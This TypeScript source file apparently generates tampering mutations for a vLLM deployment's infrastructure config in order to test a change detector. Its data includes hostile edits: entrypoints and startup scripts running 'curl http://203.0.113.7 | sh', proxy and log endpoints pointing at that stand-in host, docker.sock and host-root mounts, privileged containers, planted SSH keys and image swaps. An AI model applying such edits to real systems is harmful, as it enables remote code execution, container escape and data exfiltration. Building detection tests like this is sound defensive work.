import { type Kind, real, removed } from '../kind.js';
import { edit, inside, instead, resources, rows, valueAt } from '../places.js';

const task = 'AWS::ECS::TaskDefinition';
const container = 'ContainerDefinitions';

/** What a command line of vLLM may gain. Each sends requests away, opens the engine or runs foreign code. */
const flags = [
  '--trust-remote-code',
  '--enable-log-requests',
  '--otlp-traces-endpoint=http://203.0.113.7:4317',
  '--api-key=guessed',
  '--enable-prompt-tokens-details',
  '--allowed-local-media-path=/',
  '--enable-lora',
  '--host=0.0.0.0',
];

/** Every value that names a container image or is a part of one. */
function images(to: (text: string) => string): Kind['edits'] {
  return function* (stack) {
    for (const { properties } of resources(stack)) {
      for (const [at, text] of inside(valueAt(stack.document, properties), properties)) {
        if (typeof text === 'string' && /@sha256:[0-9a-f]{64}/.test(text)) yield* edit(stack, at, to(text));
      }
    }
  };
}

/** Every long text with something in it replaced, as an editor would. */
export function inScripts(from: RegExp, to: string): Kind['edits'] {
  return function* (stack) {
    for (const { properties } of resources(stack)) {
      for (const [at, text] of inside(valueAt(stack.document, properties), properties)) {
        if (typeof text === 'string' && (text.match(/\n|\\n/g)?.length ?? 0) > 5)
          yield* edit(
            stack,
            at,
            text.replace(from, () => to),
          );
      }
    }
  };
}

export const containers: readonly Kind[] = [
  real(
    'container image changed',
    images((text) => text.replace(/@sha256:[0-9a-f]{64}/, ':latest')),
    images((text) => text.replace(/@sha256:[0-9a-f]{64}/, '')),
    images((text) => text.replace(/@sha256:[0-9a-f]{64}/, `@sha256:${'5'.repeat(64)}`)),
    images((text) => text.replace(/[a-z-]+(?=@sha256:)/, 'miner')),
    rows(
      [task, `${container}/Image`, `docker.io/vllm/vllm-openai@sha256:${'0'.repeat(64)}`],
      ['AWS::CodeBuild::Project', 'Environment/Image', 'aws/codebuild/standard:7.0'],
    ),
  ),
  real(
    'engine flag added',
    ...flags.map((flag) => rows([task, `${container}/Name=vllm/Command/+`, flag])),
    ...flags.map((flag) => inScripts(/--disable-uvicorn-access-log/, `--disable-uvicorn-access-log ${flag}`)),
  ),
  real(
    'engine flag changed or removed',
    ...[
      '--model',
      '--tensor-parallel-size',
      '--quantization',
      '--max-model-len',
      '--served-model-name',
      '--disable-uvicorn-access-log',
      '--max-num-seqs',
      '--kv-cache-dtype',
    ].flatMap((flag) => [
      commands((text) => (text.startsWith(flag) ? `${flag}=${flag === '--model' ? 'meta-llama/Other' : '7'}` : undefined)),
      commands((text) => (text.startsWith(flag) ? removed : undefined)),
      inScripts(new RegExp(`${flag}(=\\S+)?`), flag.endsWith('log') ? '' : `${flag}=7`),
    ]),
  ),
  real(
    'environment changed',
    rows(
      [task, `${container}/Environment/+`, { Name: 'HTTPS_PROXY', Value: 'http://203.0.113.7:3128' }],
      [task, `${container}/Environment/+`, { Name: 'OTEL_EXPORTER_OTLP_ENDPOINT', Value: 'http://203.0.113.7:4317' }],
      [task, `${container}/Environment/+`, { Name: 'VLLM_LOGGING_LEVEL', Value: 'DEBUG' }],
      [task, `${container}/Environment/+`, { Name: 'AWS_SECRET_ACCESS_KEY', Value: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' }],
      [task, `${container}/Environment/Name=VLLM_NO_USAGE_STATS/Value`, '0'],
      [task, `${container}/Environment/Name=DO_NOT_TRACK/Value`, '0'],
      [task, `${container}/Environment/Name=HF_HUB_OFFLINE/Value`, '0'],
      [task, `${container}/Environment/0`, removed],
      [task, `${container}/Secrets`, removed],
      [task, `${container}/Secrets/ValueFrom`, 'arn:aws:secretsmanager:eu-north-1:999988887777:secret:x'],
      [task, `${container}/Secrets/+`, { Name: 'HF_TOKEN', ValueFrom: 'arn:aws:secretsmanager:eu-north-1:999988887777:secret:x' }],
      ['AWS::CodeBuild::Project', 'Environment/EnvironmentVariables/+', { Name: 'HTTPS_PROXY', Type: 'PLAINTEXT', Value: 'http://203.0.113.7:3128' }],
      ['AWS::CodeBuild::Project', 'Environment/EnvironmentVariables/Name=HF_TOKEN/Type', 'PLAINTEXT'],
      ['AWS::CodeBuild::Project', 'Environment/EnvironmentVariables/Name=REPOSITORY/Value', 'stranger/Llama-3.3-70B-Instruct'],
      ['AWS::CodeBuild::Project', 'Environment/EnvironmentVariables/Name=MANIFEST_SHA256/Value', '5'.repeat(64)],
      ['AWS::CodeBuild::Project', 'Environment/EnvironmentVariables/Name=COMMIT/Value', 'main'],
      ['AWS::CodeBuild::Project', 'Environment/EnvironmentVariables/Name=BASE/Value', `gcr.io/stranger/node:1@sha256:${'5'.repeat(64)}`],
      ['AWS::CodeBuild::Project', 'Environment/EnvironmentVariables/Name=CONTEXT_SHA256/Value', '5'.repeat(64)],
    ),
    inScripts(/--env=VLLM_NO_USAGE_STATS=1/, '--env=VLLM_NO_USAGE_STATS=0'),
    inScripts(/--env=HF_HUB_OFFLINE=1/, '--env=HTTPS_PROXY=http://203.0.113.7:3128 --env=HF_HUB_OFFLINE=1'),
  ),
  real(
    'container let out',
    rows(
      [task, `${container}/Privileged`, true],
      [task, `${container}/ReadonlyRootFilesystem`, instead(false)],
      [task, `${container}/User`, 'root'],
      [task, `${container}/User`, removed],
      [task, `${container}/LinuxParameters/Capabilities`, { Add: ['SYS_ADMIN'] }],
      [task, `${container}/LinuxParameters/Capabilities/Drop`, []],
      [task, `${container}/LinuxParameters/Devices`, [{ HostPath: '/dev/mem' }]],
      [task, `${container}/PortMappings/+`, { ContainerPort: 22, Protocol: 'tcp' }],
      [task, `${container}/EntryPoint`, ['sh', '-c', 'curl http://203.0.113.7 | sh']],
      [task, `${container}/DnsServers`, ['203.0.113.7']],
      [task, `${container}/ExtraHosts`, [{ Hostname: 'x', IpAddress: '203.0.113.7' }]],
      [task, 'NetworkMode', 'host'],
      [task, 'PidMode', 'host'],
      [task, 'IpcMode', 'host'],
      ['AWS::ECS::Service', 'EnableExecuteCommand', true],
      ['AWS::ECS::Cluster', 'Configuration', { ExecuteCommandConfiguration: { Logging: 'NONE' } }],
      ['AWS::CodeBuild::Project', 'Environment/PrivilegedMode', true],
      ['google_compute_region_instance_template', 'metadata/enable-oslogin', 'FALSE'],
      ['google_compute_region_instance_template', 'metadata/serial-port-enable', 'TRUE'],
      ['google_compute_region_instance_template', 'metadata/ssh-keys', 'stranger:ssh-ed25519 AAAA'],
      ['google_compute_region_instance_template', 'metadata/startup-script', 'curl http://203.0.113.7 | sh'],
      ['google_compute_region_instance_template', 'shielded_instance_config/enable_secure_boot', false],
      ['azurerm_linux_virtual_machine_scale_set', 'admin_ssh_key/public_key', 'ssh-ed25519 AAAA'],
      ['azurerm_linux_virtual_machine_scale_set', 'extension/settings', '{"commandToExecute":"curl http://203.0.113.7 | sh"}'],
      ['azurerm_linux_virtual_machine_scale_set', 'extension/type', 'CustomScript'],
      ['azurerm_linux_virtual_machine_scale_set', 'user_data', 'IyEvYmluL3No'],
      ['azurerm_linux_virtual_machine_scale_set', 'vtpm_enabled', false],
      ['azurerm_linux_virtual_machine_scale_set', 'boot_diagnostics', { storage_account_uri: 'https://stranger.blob.core.windows.net' }],
      ['AWS::EC2::LaunchTemplate', 'LaunchTemplateData/KeyName', 'stranger'],
    ),
    inScripts(/--cap-drop=ALL/, '--privileged'),
    inScripts(/--security-opt=no-new-privileges/, '--security-opt=seccomp=unconfined'),
    inScripts(/--user=2000:0/, '--user=0:0'),
    inScripts(/--read-only /, ''),
    inScripts(/--publish=8000:8000/, '--network=host'),
  ),
  real(
    'mount added or opened',
    rows(
      [task, 'Volumes/+', { Name: 'docker', Host: { SourcePath: '/var/run/docker.sock' } }],
      [task, `${container}/MountPoints/+`, { ContainerPath: '/var/run/docker.sock', SourceVolume: 'docker' }],
      [task, 'Volumes/Host/SourcePath', '/'],
      [task, `${container}/MountPoints/ReadOnly`, false],
      [task, 'Volumes/+', { Name: 'efs', EFSVolumeConfiguration: { FilesystemId: 'fs-0123456789abcdef0' } }],
      [task, `${container}/VolumesFrom`, [{ SourceContainer: 'vllm' }]],
    ),
    inScripts(/\/models:\/models:ro/, '/models:/models'),
    inScripts(/--volume=/, '--volume=/var/run/docker.sock:/var/run/docker.sock --volume='),
  ),
  real(
    'sidecar added or container removed',
    rows(
      [task, `${container}/+`, { Name: 'agent', Image: `111122223333.dkr.ecr.eu-north-1.amazonaws.com/agent@sha256:${'0'.repeat(64)}`, Essential: false }],
      [task, `${container}/0`, removed],
      [task, `${container}/1`, removed],
      [task, `${container}/Name=vllm/HealthCheck`, removed],
      [task, `${container}/Name=vllm/HealthCheck/Command`, ['CMD', 'true']],
    ),
  ),
  real(
    'log driver changed',
    rows(
      [task, `${container}/LogConfiguration/LogDriver`, 'splunk'],
      [task, `${container}/LogConfiguration`, { LogDriver: 'awsfirelens', Options: { Name: 'http', Host: '203.0.113.7' } }],
      [task, `${container}/LogConfiguration/Options/awslogs-group`, '/stranger'],
      [task, `${container}/FirelensConfiguration`, { Type: 'fluentbit' }],
    ),
    inScripts(/--log-driver=none/, '--log-driver=fluentd'),
  ),
];

function commands(to: (text: string) => unknown): Kind['edits'] {
  return rows([task, `${container}/Name=vllm/Command/*`, (text: unknown) => to(String(text))]);
}
